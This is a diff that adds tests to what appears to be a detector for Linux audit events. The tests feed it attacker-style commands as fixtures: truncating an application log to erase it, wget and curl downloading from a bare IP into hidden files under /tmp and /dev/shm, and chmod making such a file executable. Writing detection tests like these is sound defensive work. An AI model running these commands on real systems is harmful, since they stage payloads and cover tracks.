@@ -188,3 +188,39 @@ def test_every_corpus_event_gets_a_level_and_a_reason():
             assert verdict.severity in LEVELS and verdict.why, (path, one.records)
             seen.add(verdict.severity)
     assert seen == set(LEVELS)
+
+
+# -- what a command line says ----------------------------------------------------
+
+def test_a_command_line_that_erases_logs_warns_even_when_only_the_exec_is_logged():
+    run = syscall("execve", exe="/usr/bin/truncate", a0="55d0", paths=[("/usr/bin/truncate", "NORMAL")], uid="0",
+                  argv=("truncate", "-s", "0", "/var/log/app.log"))
+    assert (level(run), classify(run).why) == (WARNING, "logs erased")
+    plain = syscall("execve", exe="/usr/bin/truncate", a0="55d0", paths=[("/usr/bin/truncate", "NORMAL")], uid="0",
+                    argv=("truncate", "-s", "0", "/srv/data.bin"))
+    assert level(plain) == INFO
+
+
+def test_a_download_into_a_scratch_or_hidden_place_warns_from_the_exec_or_the_process_title():
+    run = syscall("execve", exe="/usr/bin/wget", a0="55d0", paths=[("/usr/bin/wget", "NORMAL")],
+                  argv=("wget", "-q", "-O", "/tmp/.u", "http://198.51.100.1/u"))
+    assert (level(run), classify(run).why) == (WARNING, "download to a hidden file in a temporary place")
+    title = "\0".join(("curl", "--output=/dev/shm/x", "http://198.51.100.1/x")).encode().hex().upper()
+    connect = event(_syscall("connect", exe="/usr/bin/curl", a0="4").replace(
+        "type=EOE", "type=PROCTITLE msg=audit(1700000000.000:77): proctitle=%s\ntype=EOE" % title))
+    assert (level(connect), classify(connect).why) == (WARNING, "download to a temporary place")
+    home = syscall("execve", exe="/usr/bin/curl", a0="55d0", paths=[("/usr/bin/curl", "NORMAL")],
+                   argv=("curl", "-o", "/home/bob/report.pdf", "https://example.org/r.pdf"))
+    assert level(home) == INFO
+
+
+def test_making_a_hidden_file_in_tmp_executable_is_critical_a_plain_one_warns():
+    hidden = syscall("fchmodat", exe="/usr/bin/chmod", a0="ffffff9c", a1="55d0", a2="1ed",
+                     paths=[("/tmp/.u", "NORMAL")])
+    assert (level(hidden), classify(hidden).why) == (CRITICAL, "made executable in a hidden file in a temporary place")
+    plain = syscall("fchmodat", exe="/usr/bin/chmod", a0="ffffff9c", a1="55d0", a2="1ed",
+                    paths=[("/tmp/install.sh", "NORMAL")])
+    assert level(plain) == WARNING
+    home = syscall("fchmodat", exe="/usr/bin/chmod", a0="ffffff9c", a1="55d0", a2="1ed",
+                   paths=[("/home/bob/bin/tool", "NORMAL")])
+    assert level(home) == INFO
